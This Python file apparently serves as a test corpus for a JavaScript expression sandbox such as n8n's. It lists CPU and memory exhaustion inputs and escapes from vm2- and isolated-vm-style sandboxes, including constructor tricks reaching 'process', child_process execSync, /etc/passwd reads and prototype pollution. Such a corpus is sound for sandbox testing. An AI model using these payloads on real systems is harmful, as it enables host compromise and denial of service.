"""Expressions that mean harm, by what they try."""

from __future__ import annotations

SLOW = {
    "a search that compares for minutes": "'a'.repeat(4e6).indexOf('a'.repeat(2e6) + 'b')",
    "searches in a callback": "[1, 2, 3].map(x => 'a'.repeat(500000).indexOf('a'.repeat(250000) + 'b'))",
    "fills without end": "(() => { const a = new Array(999999).fill(0); for (;;) a.fill(1) })()",
    "large integers": "(() => { let x = 7n; for (let i = 0; i < 17; i++) x *= x; for (;;) x * x })()",
    "digits of a large integer": "(() => { const x = 2n ** 1000000n; for (;;) String(x) })()",
    "texts that share their parts": (
        "(() => { let s = 'x'.repeat(9000); for (let i = 0; i < 16; i++) s += s; for (;;) s + 'a' === s + 'b' })()"
    ),
    "long names of properties": "(() => { const k = 'k'.repeat(4e6), o = {}; for (;;) o[k + 'a'] })()",
    "a long chain of prototypes": (
        "(() => { let o = {}; for (let i = 0; i < 50000; i++) o = Object.create(o); for (;;) o.missing })()"
    ),
    "holes": "(a => { a.length = 4e9; return new Set(a); })([])",
    "holes by an iterator": "(() => { const a = []; a.length = 4e9; return a.values().some(Number.isInteger); })()",
    "a template of nothing": "String.raw({raw: {length: 2 ** 53 - 1}})",
    "backtracking": "/(a+)+$/.test('a'.repeat(40) + 'b')",
    "quadratic backtracking": "/(.*)*x/.test('y'.repeat(50000))",
    "replacements in a loop": "(() => { const s = 'a'.repeat(1e6); for (;;) s.replace(/b/g, '') })()",
    "accents in a loop": "(() => { const t = 'é'.repeat(1e6); for (;;) t.normalize('NFD') })()",
    "long texts in order": "Array(9000).fill('x'.repeat(1e6)).map((x, i) => x + i).sort().length",
    "a diamond as JSON": "(() => { let a = []; for (let i = 0; i < 60; i++) a = [a, a]; return JSON.stringify(a); })()",
    "a diamond as text": "(() => { let a = []; for (let i = 0; i < 60; i++) a = [a, a]; return String(a); })()",
    "caught interrupts": "(() => { for (;;) { try { for (;;); } catch {} finally { for (;;); } } })()",
    "a getter": "({ get a() { for (;;); } }).a",
    "toJSON": "({ toJSON() { for (;;); } })",
    "valueOf": "+{ valueOf() { for (;;); } }",
    "a proxy of iteration": "[...{ [Symbol.iterator]: () => ({ next: () => ({ done: false }) }) }]",
    "dates in a loop": "(() => { for (;;) new Date().toLocaleString('en-US', {timeZone: 'Europe/Berlin'}) })()",
}
"""What runs for ever, or for minutes, and asks seldom whether it may."""

LARGE = {
    "texts": "(() => { const a = []; for (;;) a.push('x'.repeat(1000) + a.length); })()",
    "doubling": "(() => { let s = 'x'; for (;;) s = [s, s].join(''); })()",
    "a list of nothing": "Array.from({length: 4e9})",
    "entries": "(() => { const m = new Map(); for (let i = 0; ; i++) m.set({}, i) })()",
    "padding": "'x'.padStart(1e9)",
    "nested JSON": "JSON.parse('['.repeat(1e6))",
    "recursion": "(f => f(f))(f => f(f) + 1)",
    "two by two": "(f => f(f))(f => [f(f), f(f)])",
    "a deep pattern": "new RegExp('('.repeat(100000) + ')'.repeat(100000))",
    "closures": "(() => { let f = () => 0; for (;;) { const g = f; f = () => g() + 1; } })()",
}
"""What wants more memory or stack than there is."""

ESCAPES = {
    "the constructor of functions": "(() => {}).constructor('return this')()",
    "the constructor of a built-in": "[].map.constructor('return globalThis')()",
    "the constructor of generators": "Object.getPrototypeOf(function* () {}).constructor('yield 1')().next()",
    "the constructor of waiting functions": "Object.getPrototypeOf(async () => {}).constructor('return 1')()",
    "a constructor reached by an error": (
        "(() => { try { null.x } catch (e) { return e.constructor.constructor('return process')() } })()"
    ),
    "an error of the stack": (
        "(() => { const f = () => f();"
        " try { f() } catch (e) { return e.constructor.constructor('return process')() } })()"
    ),
    "preparing stack traces": (
        "(() => { Error.prepareStackTrace = (e, frames) => frames; return new Error().stack[0] })()"
    ),
    "the caller of a function": "(function f() { return f.caller })().constructor",
    "arguments of the caller": "(function f() { return arguments.callee.caller })()",
    "a computed name": "(() => {})['const' + 'ructor']('return process')()",
    "a name by escapes": "(() => {}).\\u0063onstructor('return process')()",
    "reflection": "Reflect.construct((() => {}).constructor, ['return process'])()",
    "apply": "Reflect.apply((() => {}).constructor, null, ['return process'])()",
    "species": "[1].map.call({constructor: {[Symbol.species]: Function}, length: 1, 0: 1}, x => x)",
    "the text's own evaluator": "(0, eval)('process')",
    "a timer of text": "setTimeout('process')",
    "a module": "import('node:fs')",
    "requiring": "require('child_process').execSync('id')",
    "the main module": "process.mainModule.require('child_process')",
    "bindings": "process.binding('fs')",
    "QuickJS's own modules": "std.loadFile('/etc/passwd')",
    "the system's functions": "os.exec(['id'])",
    "an iterator's prototype": "([][Symbol.iterator]().__proto__.next = () => 1)",
    "the prototype of all": "(({}).__proto__.polluted = 1)",
    "a prototype by its setter": "Object.setPrototypeOf(Object.prototype, {polluted: 1})",
    "a prototype by JSON": 'Object.assign({}, JSON.parse(\'{"__proto__": {"polluted": 1}}\')).polluted.x',
    "a prototype by a defined getter": "Object.prototype.__defineGetter__('polluted', () => 1)",
    "the reader of items": "$('A').constructor.constructor('return process')()",
    "the reader's functions": "($input.first = () => 1)",
    "a built-in replaced": "(JSON.stringify = () => '1')",
    "the host by its error": (
        "(() => { try { $('no such node').first() }"
        " catch (e) { return e.constructor.constructor('return process')() } })()"
    ),
    "tagged templates": "((x) => x.constructor.constructor`return process`)(() => 1)()",
    "symbols of conversion": "`${{[Symbol.toPrimitive]: (() => {}).constructor('return process')}}`",
    "with": "(() => { with ({}) { return process } })()",
    "a promise's constructor": "(async () => {})().constructor.constructor('return process')()",
    "luxon's settings": "DateTime.now().constructor.constructor('return process')()",
    "luxon's zones": "(DateTime.now().zone.offset = () => 1)",
}
"""Ways out of n8n's, vm2's and isolated-vm's sandboxes, and of others of their kind, in words of our own."""
